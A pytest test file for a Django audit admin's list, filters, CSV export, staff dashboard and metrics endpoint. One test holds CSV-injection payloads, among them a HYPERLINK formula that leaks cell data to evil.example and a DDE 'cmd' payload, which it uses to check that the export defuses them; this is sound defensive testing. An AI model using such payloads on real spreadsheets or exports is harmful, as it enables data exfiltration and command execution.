"""Audit admin (read-only list, filters, search, detail, CSV export), the staff dashboard, and /metrics."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.contrib.auth.models import User
from rest_framework.test import APIClient

from api.testing import keyed_api
from audit.tests.factories import log_make

pytestmark = pytest.mark.django_db


@pytest.fixture
def some_logs(providers):
    a = log_make(provider=providers["alpha"], policy=providers["policy"], region="us_east", subject="science")
    b = log_make(region="eu_west", subject="arts", client_ref="app-2")
    return a, b


def row_link(log):
    return f"/admin/audit/dispatchlog/{log.pk}/change/"


def test_changelist_filters_and_searches_by_request_id(admin_client, some_logs):
    a, b = some_logs
    page = admin_client.get("/admin/audit/dispatchlog/", {"region": "eu_west"})
    assert page.status_code == 200
    assert row_link(b) in page.content.decode() and row_link(a) not in page.content.decode()
    params_list = (
        {"outcome": "accepted"},
        {"is_override__exact": "0"},
        {"client_ref": "app-2"},
        {"subject": "arts"},
        {"refusal_code": "no_compliant_provider"},
    )
    for params in params_list:
        assert admin_client.get("/admin/audit/dispatchlog/", params).status_code == 200
    found = admin_client.get("/admin/audit/dispatchlog/", {"q": str(a.request_id)}).content.decode()
    assert row_link(a) in found and row_link(b) not in found
    nothing = admin_client.get("/admin/audit/dispatchlog/", {"q": "not-a-uuid"})
    assert nothing.status_code == 200 and row_link(a) not in nothing.content.decode()


def test_detail_page_shows_the_explanation(admin_client, some_logs):
    a, _ = some_logs
    page = admin_client.get(f"/admin/audit/dispatchlog/{a.pk}/change/").content.decode()
    assert '<ul class="explanation">' in page and "not reported" in page
    assert "&quot;explanation&quot;" not in page  # a readable list, not the raw JSON


def test_csv_export_has_the_filtered_rows(admin_client, some_logs):
    _a, b = some_logs
    response = admin_client.get("/admin/audit/dispatchlog/export.csv", {"region": "eu_west"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["request_id"] for row in rows] == [str(b.request_id)]
    assert rows[0]["refusal_code"] == "no_compliant_provider"


def test_csv_export_and_dashboard_are_staff_only(client, some_logs):
    User.objects.create_user("teacher", password="pw-123456789")
    client.login(username="teacher", password="pw-123456789")
    for url in ("/admin/audit/dispatchlog/export.csv", "/admin/audit/dashboard/"):
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_dashboard_renders_charts_with_the_api_filters(admin_client, some_logs):
    page = admin_client.get("/admin/audit/dashboard/", {"region": "eu_west", "days": "7"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "vendor/chartjs/chart.umd.min.js" in html and 'id="dashboard-data"' in html
    assert "cdn" not in html.lower()
    assert page.context["data"]["summary"]["total_requests"] == 1
    bad = admin_client.get("/admin/audit/dashboard/", {"days": "400", "region": "mars"})
    assert bad.status_code == 400 and bad.context["form"].errors.keys() == {"days", "region"}


def test_metrics_endpoint_counts_dispatches_by_level_outcome_and_region(settings):
    from authoring.demo import demo_world_load

    demo_world_load()
    api = keyed_api()[0]
    scraper = APIClient()  # /metrics has its own bearer token, not an API key

    def counter() -> float:
        text = scraper.get("/metrics").content.decode()
        line = 'dispatch_decisions_total{level="exact",outcome="accepted",region="us_east"}'
        return next((float(x.split()[-1]) for x in text.splitlines() if x.startswith(line)), 0.0)

    start = counter()
    for _ in range(3):
        api.post(
            f"/dispatch?request_id={uuid.uuid4()}",
            {"subject": "mathematics", "grade_band": "elementary", "region": "us_east"},
            format="json",
        )
    assert counter() == start + 3
    assert "dispatch_decision_seconds_bucket" in scraper.get("/metrics").content.decode()
    settings.METRICS_TOKEN = "scrape-secret"
    assert scraper.get("/metrics").status_code == 401
    assert scraper.get("/metrics", HTTP_AUTHORIZATION="Bearer scrape-secret").status_code == 200


def test_admin_index_links_to_the_dashboard(admin_client):
    page = admin_client.get("/admin/").content.decode()
    assert 'href="/admin/audit/dashboard/"' in page


def test_csv_export_defuses_formulas_an_api_client_wrote_into_the_log(admin_client):
    """OWASP CSV injection: text a spreadsheet would run as a formula gets a leading quote."""
    from authoring.demo import demo_world_load

    demo_world_load()
    api = keyed_api("dispatch", "override")[0]
    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
    reasons = [link, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1"]
    for reason in reasons:
        body = {
            "subject": "mathematics",
            "grade_band": "elementary",
            "region": "us_east",
            "teacher_override": True,
            "override_provider_id": "anthropic-claude",
            "override_reason": reason,
            "teacher_id": link[:64],
        }
        assert api.post(f"/dispatch?request_id={uuid.uuid4()}", body, format="json").status_code == 422  # audited
    response = admin_client.get("/admin/audit/dispatchlog/export.csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["override_reason"] for row in rows) == sorted("'" + reason for reason in reasons)
    assert {row["teacher_id"] for row in rows} == {"'" + link[:64]}
    header, first = text.splitlines()[:2]
    assert header.startswith('"id","created_at"') and first.startswith('"')  # every cell quoted


def test_dashboard_chart_csv_has_what_the_chart_shows(admin_client, some_logs):
    response = admin_client.get("/admin/audit/dashboard/chart.csv", {"chart": "regions", "days": "7"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["region", "dispatches"] and sorted(rows[1:]) == [["eu_west", "1"], ["us_east", "1"]]
    per_day = list(
        csv.reader(
            io.StringIO(admin_client.get("/admin/audit/dashboard/chart.csv?chart=per_day&days=3").content.decode())
        )
    )
    assert len(per_day) == 4 and per_day[0] == ["day", "accepted", "refused"]
    bad = admin_client.get("/admin/audit/dashboard/chart.csv", {"chart": "pie"})
    assert bad.status_code == 400 and "chart must be one of: per_day" in bad.content.decode()
